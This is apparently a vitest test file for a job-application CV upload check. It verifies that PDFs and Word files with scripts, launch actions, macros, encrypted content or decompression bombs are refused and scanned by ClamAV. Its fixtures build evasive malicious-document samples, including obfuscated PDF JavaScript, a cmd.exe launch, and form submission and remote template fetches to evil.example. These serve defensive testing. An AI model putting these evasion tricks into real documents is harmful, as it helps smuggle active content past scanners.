import { randomUUID } from 'node:crypto'
import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { createServer } from 'node:net'
import { constants, getPriority, tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { PDFName, PDFString } from 'pdf-lib'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import type { Language } from '#kit/localized.ts'
import { ownAddress, refusal } from '../../../../tests/support/callers.ts'
import { EICAR, startClamd } from '../../../../tests/support/clamd.ts'
import { bomb, docxCv, pdfCv, rawPdf, relation, stream } from '../../../../tests/support/cvs.ts'
import { type Roadshow, startRoadshow } from '../../../../tests/support/roadshow.ts'
import { testSite } from '../../../../tests/support/site.ts'
import { applyForPosition } from '../contract.ts'
import { en } from './text.en.ts'
import { fr } from './text.fr.ts'

const JOB = 'associate-advisor-relations-toronto'

const { roadshow, smtp } = testSite({ mailRate: 1000 })
let scanning: Roadshow
let clamd: Awaited<ReturnType<typeof startClamd>>
beforeAll(async () => {
  clamd = await startClamd()
  const mails = { SMTP_URL: smtp.url, MAIL_RATE: '1000' }
  scanning = await startRoadshow({ environment: { ...mails, CLAMAV_URL: clamd.url } })
})
afterAll(async () => {
  await scanning.stop()
  await clamd.close()
})

type Options = { at?: Roadshow; language?: Language; email?: string }

function apply(cv: Uint8Array, { at = roadshow, language = 'en', email = newEmail() }: Options = {}) {
  const file = new File([new Uint8Array(cv)], 'cv.pdf')
  const body = { name: 'Ada Roy', email, cv: file }
  return at.api(language, ownAddress())(applyForPosition, { params: { slug: JOB }, body })
}

const newEmail = () => `${randomUUID()}@example.com`
const faults = (language: Language = 'en') => ({ en, fr })[language].cvFaults

async function expectRefused(cv: Uint8Array, fault: keyof ReturnType<typeof faults>): Promise<void> {
  const { status, fields } = await refusal(apply(cv))
  expect([status, fields]).toEqual([422, { cv: [faults()[fault]] }])
}

const RUNS = '/S /JavaScript /JS (app.alert\\(1\\))'
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>'
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>'
const objectStream = (filters: string, data: Buffer) =>
  rawPdf(CATALOG, PAGES, stream(`/Type /ObjStm /N 1 /First 4 ${filters}`, data))
const HIDDEN = Buffer.from(`7 0 << /Type /Action ${RUNS} >>`)

test('R405 inspects a CV in a worker thread, so that other requests are answered', async () => {
  await apply(await pdfCv())
  const priorities = (await threads()).map((thread) => getPriority(Number(thread)))
  expect(priorities).toContain(process.platform === 'linux' ? constants.priority.PRIORITY_BELOW_NORMAL : 0)
  expect(getPriority()).toBeLessThan(constants.priority.PRIORITY_BELOW_NORMAL)
})

/** The threads of this process, on systems that list them. */
const threads = () => readdir('/proc/self/task').catch(() => ['0'])

describe('R405 refuses a CV that runs code or carries other files', () => {
  test.each<[string, () => Uint8Array | Promise<Uint8Array>]>([
    ['a script, in a compressed object stream', () => pdfCv((pdf) => pdf.addJavaScript('x', 'app.alert(1)'))],
    ['a script, in plain objects', () => pdfCv((pdf) => pdf.addJavaScript('x', 'app.alert(1)'), false)],
    ['an attached file', () => pdfCv((pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe'))],
    [
      'an attached file, in plain objects',
      () => pdfCv((pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe'), false),
    ],
    [
      'a program that is started',
      () =>
        pdfCv((pdf) =>
          pdf.catalog.set(
            PDFName.of('OpenAction'),
            pdf.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') }),
          ),
        ),
    ],
    ['a script that runs when it is opened', () => rawPdf(`<< /Type /Catalog /OpenAction << ${RUNS} >> >>`)],
    [
      'names in codes',
      () => rawPdf('<< /Type /Catalog /OpenAction << /#53 /#4aava#53cript /#4A#53 (x) >> >>'),
    ],
    ['a comment between', () => rawPdf('<< /Type /Catalog /OpenAction << /S % kind\n/JavaScript >> >>')],
    [
      'a kind that stands elsewhere',
      () => rawPdf('<< /Type /Catalog /OpenAction << /S 2 0 R /F (x) >> >>', '/Launch'),
    ],
    ['a script that stands elsewhere', () => rawPdf('<< /Type /Catalog /AA << /O << /JS 9 0 R >> >> >>')],
    [
      'a form that is sent',
      () => rawPdf('<< /Type /Catalog /OpenAction << /S/SubmitForm /F (http://evil.example) >> >>'),
    ],
    ['a form of Adobe’s', () => rawPdf('<< /Type /Catalog /AcroForm << /XFA [(a) 2 0 R] >> >>')],
    [
      'an object inside another’s data',
      () => rawPdf(CATALOG, stream('', Buffer.from(`5 0 obj << ${RUNS} >> endobj`))),
    ],
    ['an object stream', () => objectStream('/Filter /FlateDecode', deflateSync(HIDDEN))],
    [
      'an object stream in hexadecimal',
      () =>
        objectStream(
          '/Filter [/ASCIIHexDecode /FlateDecode]',
          Buffer.from(`${deflateSync(HIDDEN).toString('hex')}>`),
        ),
    ],
    [
      'an object stream in hexadecimal alone',
      () => objectStream('/Filter /AHx', Buffer.from(`${HIDDEN.toString('hex')}>`)),
    ],
    [
      'an object stream that is deflated twice',
      () => objectStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(HIDDEN))),
    ],
    [
      'an object stream in base 85',
      () => objectStream('/Filter [/A85 /Fl]', Buffer.from(`${base85(deflateSync(HIDDEN))}~>`)),
    ],
    ['a filter whose name is in codes', () => objectStream('/Filter /#46lateDecode', deflateSync(HIDDEN))],
    [
      'a page for browsers behind the PDF',
      () => Buffer.concat([rawPdf(CATALOG, PAGES), Buffer.from('<html><script>alert(1)</script>')]),
    ],
  ])('%s', async (_, cv) => {
    await expectRefused(await cv(), 'active')
  })

  test.each<[string, () => Uint8Array]>([
    ['macros', () => docxCv({ parts: { 'word/vbaProject.bin': 'x' } })],
    ['macros in another folder', () => docxCv({ parts: { 'Word/VBAPROJECT.BIN': 'x' } })],
    [
      'macros under another name',
      () =>
        docxCv({
          relations:
            '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.dat"/>',
          parts: { 'word/a.dat': 'x' },
        }),
    ],
    [
      'macros under another name, with letters as references',
      () =>
        docxCv({
          overrides:
            '<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vba&#x50;roject"/>',
          parts: { 'word/a.dat': 'x' },
        }),
    ],
    [
      'the type of documents with macros',
      () => docxCv({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    ['a control', () => docxCv({ parts: { 'word/activeX/activeX1.xml': '<x/>' } })],
    ['a package', () => docxCv({ parts: { 'word/embeddings/oleObject1.bin': 'x' } })],
    [
      'a template that is fetched',
      () => docxCv({ relations: relation('attachedTemplate', 'https://evil.example/t.dotm') }),
    ],
  ])('%s, in Word', async (_, cv) => {
    await expectRefused(cv(), 'macros')
  })

  test('refuses a CV with a password', () =>
    expectRefused(rawPdf(CATALOG, PAGES, '<< /Encrypt 9 0 R >>'), 'protected'))

  test.each<[string, () => Uint8Array]>([
    [
      'an object stream in a filter that isn’t known',
      () => objectStream('/Filter /LZWDecode', Buffer.from('x')),
    ],
    [
      'an object stream in a filter that is called like a function',
      () => objectStream('/Filter [/constructor /AHx]', Buffer.from(`${HIDDEN.toString('hex')}>`)),
    ],
    ['an object stream whose filter stands elsewhere', () => objectStream('/Filter 9 0 R', Buffer.from('x'))],
    [
      'an object stream behind a predictor',
      () => objectStream('/Filter /FlateDecode /DecodeParms << /Predictor 12 >>', deflateSync(HIDDEN)),
    ],
    [
      'an object stream that is damaged',
      () => objectStream('/Filter /FlateDecode', deflateSync(HIDDEN).fill(0, 20)),
    ],
    [
      'streams that swell to more than can be looked at',
      () => rawPdf(CATALOG, PAGES, bomb(100 * 1024 ** 2), bomb(100 * 1024 ** 2)),
    ],
  ])('refuses a file that can’t be inspected: %s', async (_, cv) => {
    await expectRefused(cv(), 'unreadable')
  })

  test('has a message for files that are neither PDF nor Word, in French', async () => {
    const { status, fields } = await refusal(apply(Buffer.from('hello'), { language: 'fr' }))
    expect([status, fields]).toEqual([415, { cv: [faults('fr').other] }])
  })
})

describe('R405 accepts an ordinary CV', () => {
  test.each<[string, () => Uint8Array | Promise<Uint8Array>]>([
    ['a PDF that speaks of scripts', () => pdfCv()],
    ['a PDF in plain objects', () => pdfCv(undefined, false)],
    [
      'a PDF with a link and a page to open at',
      () =>
        rawPdf(
          '<< /Type /Catalog /OpenAction [2 0 R /Fit] /Names << /Dests 3 0 R >> >>',
          '<< /A << /S /URI /URI (https://example.com) >> >>',
        ),
    ],
    [
      'an old PDF with pictures in a filter of its time',
      () => rawPdf(CATALOG, PAGES, stream('/Filter /LZWDecode', Buffer.from('x'))),
    ],
    [
      'a photograph',
      () =>
        rawPdf(
          CATALOG,
          PAGES,
          stream('/Subtype /Image /Filter /DCTDecode', Buffer.from('ÿØÿ')),
          stream(
            '/Type /XRef /Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
            deflateSync(Buffer.from('x')),
          ),
        ),
    ],
    ['a Word document with a link', () => docxCv()],
    [
      'a Word document with a chart',
      () => docxCv({ parts: { 'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'x' } }),
    ],
  ])('%s', async (_, cv) => {
    expect((await apply(await cv())).msg).toHaveLength(1)
  })
})

const staffMail = async (email: string) => {
  const find = () =>
    smtp.mails.find(({ to, email: mail }) => !to.includes(email) && mail.text?.includes(email))
  await expect.poll(find, { timeout: 15_000 }).toBeDefined()
  return find()?.email.text ?? ''
}

describe('R405 scans uploads where clamd is configured', () => {
  afterEach(() => clamd.answerAlways(undefined))

  test('refuses a virus and stores nothing', async () => {
    const email = newEmail()
    const cv = rawPdf(CATALOG, PAGES, `% ${EICAR}`)
    const { status, fields } = await refusal(apply(cv, { at: scanning, email, language: 'fr' }))
    expect([status, fields]).toEqual([422, { cv: [faults('fr').virus] }])
    expect(clamd.scanned.at(-1)?.equals(cv)).toBe(true)
    const { rows } = await scanning.pool.query('select 1 from applications where email = $1', [email])
    expect(rows).toEqual([])
  })

  test.each(['INSTREAM size limit exceeded. ERROR', 'nonsense', ''])(
    'refuses a CV when the scanner fails: %j',
    async (answer) => {
      clamd.answerAlways(answer)
      const { status, code, fields } = await refusal(apply(await pdfCv(), { at: scanning }))
      expect([status, code, fields]).toEqual([503, 'unavailable', { cv: [en.notScannable] }])
    },
  )

  test('refuses files while the scanner is unavailable', async () => {
    const probe = createServer().listen(0, '127.0.0.1')
    const { port } = await new Promise<{ port: number }>((resolve) =>
      probe.once('listening', () => resolve(probe.address() as { port: number })),
    )
    await new Promise((resolve) => probe.close(resolve))
    const away = await startRoadshow({ environment: { CLAMAV_URL: `tcp://127.0.0.1:${port}` } })
    const { status, fields } = await refusal(apply(await pdfCv(), { at: away }))
    await away.stop()
    expect([status, fields]).toEqual([503, { cv: [en.notScannable] }])
  })

  test('tells staff in the mail whether the CV was scanned', async () => {
    const [scannedEmail, unscannedEmail] = [newEmail(), newEmail()]
    await apply(await pdfCv(), { at: scanning, email: scannedEmail })
    await apply(await pdfCv(), { email: unscannedEmail })
    expect(await staffMail(scannedEmail)).toContain('the virus scanner found nothing')
    expect(await staffMail(unscannedEmail)).toContain('It was not scanned for viruses')
  })

  test('connects to a scanner at a Unix socket', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'clamd-'))
    const local = await startClamd(join(folder, 'clamd.ctl'))
    const here = await startRoadshow({ environment: { CLAMAV_URL: local.url } })
    await apply(await pdfCv(), { at: here })
    expect(local.scanned).toHaveLength(1)
    await here.stop()
    await local.close()
    await rm(folder, { recursive: true })
  })
})

function base85(data: Buffer): string {
  let text = ''
  for (let at = 0; at < data.length; at += 4) {
    const group = Buffer.alloc(4)
    data.copy(group, 0, at, at + 4)
    let value = group.readUInt32BE()
    const digits = Array.from({ length: 5 }, () => {
      const digit = value % 85
      value = Math.floor(value / 85)
      return String.fromCharCode(digit + 0x21)
    }).reverse()
    text += digits.slice(0, Math.min(4, data.length - at) + 1).join('')
  }
  return text
}
